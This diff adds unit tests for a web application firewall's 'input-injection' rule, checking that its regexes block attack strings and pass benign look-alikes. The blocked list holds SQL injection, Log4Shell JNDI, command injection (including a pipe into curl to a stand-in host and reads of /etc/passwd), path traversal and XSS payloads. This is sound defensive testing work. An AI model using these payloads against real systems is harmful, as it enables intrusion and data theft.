@@ -24,6 +24,7 @@ describe('own rules of the web ACL', () => {
       'network-method-override',
       'network-route-allowlist',
       'network-forged-headers',
+      'input-injection',
       'input-body-size',
       'input-content-type',
       'network-address-flood',
@@ -98,5 +99,56 @@ describe('own rules of the web ACL', () => {
 
   it.each(['x-http-method-override', 'x-http-method', 'x-method-override'])('refuse header %s', (name) => {
     expect(JSON.stringify(statementOf('network-method-override'))).toContain(`{"Name":"${name}"}`);
+  });
+
+  describe('on injections', () => {
+    const regexes = regexesIn(statementOf('input-injection'));
+    const isBlocked = (text: string) => regexes.some((regex) => regex.test(text.toLowerCase()));
+
+    it.each([
+      "x' UNION ALL SELECT password FROM users--",
+      'x union select null,null',
+      "x' or '1'='1",
+      "x' OR 1=1",
+      '1;drop table orders',
+      '1 and pg_sleep(10)',
+      "1;waitfor delay '0:0:5'",
+      '${jndi:ldap://x/a}',
+      '${${lower:j}ndi:ldap://x/a}',
+      'a; cat /etc/passwd',
+      'a|curl -s x.example',
+      'a`id`',
+      '$(whoami)',
+      ';id',
+      '../../etc/passwd',
+      '..\\..\\windows',
+      '<script>alert(1)</script>',
+      'a\0.jpg',
+    ])('stop %j', (text) => {
+      expect(isBlocked(text)).toBe(true);
+    });
+
+    it.each([
+      "name=O'Brien",
+      "q=rock 'n' roll or jazz",
+      'q=select a plan from the list',
+      'q=union select committee',
+      'q=sleep (8 hours)',
+      'q=open; update the status',
+      'word=a|cat|b&id=5',
+      'q=I <3 boots',
+      'q=fish & chips; cat food',
+      'price=$(5)&q=$5',
+      'from=2026-01-01&to=2026-02-01&id=1',
+      'q={{name}}',
+      'q=drop table tennis',
+      'file=../a',
+    ])('let %j pass', (text) => {
+      expect(isBlocked(text)).toBe(false);
+    });
+
+    it('fit into the length that WAF takes', () => {
+      expect(Math.max(...regexes.map(({ source }) => source.length))).toBeLessThanOrEqual(512);
+    });
   });
 });
